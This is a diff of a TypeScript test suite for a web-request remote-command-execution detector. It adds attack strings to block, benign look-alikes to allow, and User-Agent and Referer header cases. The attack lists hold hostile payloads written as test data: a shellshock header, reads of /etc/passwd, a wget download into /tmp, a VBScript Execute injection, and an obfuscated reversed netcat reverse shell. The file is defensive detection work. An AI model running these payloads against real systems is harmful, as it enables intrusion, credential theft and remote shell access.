@@ -11,8 +11,8 @@ beforeAll(async () => {
 const ARG = 2; // TargetKind.ArgValue
 const HEADER = 3; // TargetKind.Header
 
-function rceScore(input: string, kind = ARG, paranoia = 1): number {
-  const out = JSON.parse(h.callString("scanTarget", kind, kind === HEADER ? "header:user-agent" : "args:q", input, paranoia));
+function rceScore(input: string, kind = ARG, paranoia = 1, name = kind === HEADER ? "header:user-agent" : "args:q"): number {
+  const out = JSON.parse(h.callString("scanTarget", kind, name, input, paranoia));
   return out.matches.filter((m: { category: string }) => m.category === "rce").reduce((a: number, m: { id: number }) => a + (m.id === 4106 || m.id === 4107 || m.id === 4202 || m.id === 4307 ? 3 : 5), 0);
 }
 
@@ -69,6 +69,10 @@ const attacks: [string, string][] = [
   ["a variable assigned then run after a separator", "x;a=id;$a"],
   ["a shell named by its variable", "x;$SHELL -c id"],
   ["an empty variable before a command", ";$u cat /etc/passwd"],
+  ["a system directory spelled with glob classes", "/[b]i[n]"],
+  ["a hardening tool given a service name", "userdel web-admin"],
+  ["a tool with subcommands on a line of its own", "ansible webservers ping\n"],
+  ["VBScript running a joined string", 'On Error Resume Next:Ex"&"ecute("x=1"):Response.Write("ok")'],
   ["padding then substitution", "A".repeat(5000) + ";$(printf 'hsab/nib/ e- 4321 1.0.0.721 cn'|rev)"],
 ];
 
@@ -104,6 +108,11 @@ const benign: [string, string][] = [
   ["a note ending in a comparison (no batch syntax, no command)", "if foo=="],
   ["an arrow in text", "input >(filtered) output"],
   ["unassigned variables after a semicolon (crs-932236-105)", "; $x $y $z are the unknowns"],
+  ["a path with an array index", "/items[0]/name"],
+  ["prose with a strong tool name", "knife-edge decisions"],
+  ["a topic word then prose on its own line", "Curl up with a good book tonight\n"],
+  ["a lower-case topic word then prose on its own line", "ssh into the box first\n"],
+  ["VB forum question without a string run", "Is On Error Resume Next bad style? I use Response.Write(x) to debug"],
   ["user agent of a text browser", "Links (2.3pre1; Linux 2.6.38-8-generic x86_64; 170x48)"],
 ];
 
@@ -129,11 +138,29 @@ describe("rce detector", () => {
     ["shellshock in a header", "() { :;}; /bin/bash -c 'id'", true],
     ["a separator then a reader of a sensitive file", "; cat /etc/passwd", true],
     ["a downloader with arguments", "wget http://example.com/x.sh -O /tmp/x", true],
+    ["a lone command as the User-Agent", "id", true],
+    ["a command with an option as the User-Agent", "set -o vi", true],
+    ["a tool and its subcommands as the User-Agent", "knife node show", true],
+    ["a product name as the User-Agent", "Java", false],
+    ["a crawler description", "Snap URL Preview Service; bot; snapchat", false],
+    ["a runtime name", "node", false],
   ];
   for (const [name, input, blocked] of headerCases) {
     it(`${blocked ? "blocks" : "allows"} in a header: ${name}`, () => {
       if (blocked) expect(rceScore(input, HEADER)).toBeGreaterThanOrEqual(5);
       else expect(rceScore(input, HEADER)).toBeLessThan(5);
+    });
+  }
+  const refererCases: [string, string, boolean][] = [
+    ["a command line in a query value of the Referer", "https://shop.example/?q=env --version", true],
+    ["the Referer itself is a command", "set -o vi", true],
+    ["a search Referer", "https://www.google.com/search?q=cat+food+brands&hl=en", false],
+    ["a Referer with ordinary parameters", "https://app.example/orders?page=2&sort=date", false],
+  ];
+  for (const [name, input, blocked] of refererCases) {
+    it(`${blocked ? "blocks" : "allows"} as a Referer: ${name}`, () => {
+      if (blocked) expect(rceScore(input, HEADER, 1, "header:referer")).toBeGreaterThanOrEqual(5);
+      else expect(rceScore(input, HEADER, 1, "header:referer")).toBeLessThan(5);
     });
   }
   it("blocks uploads named like server configuration files, not ordinary uploads", () => {
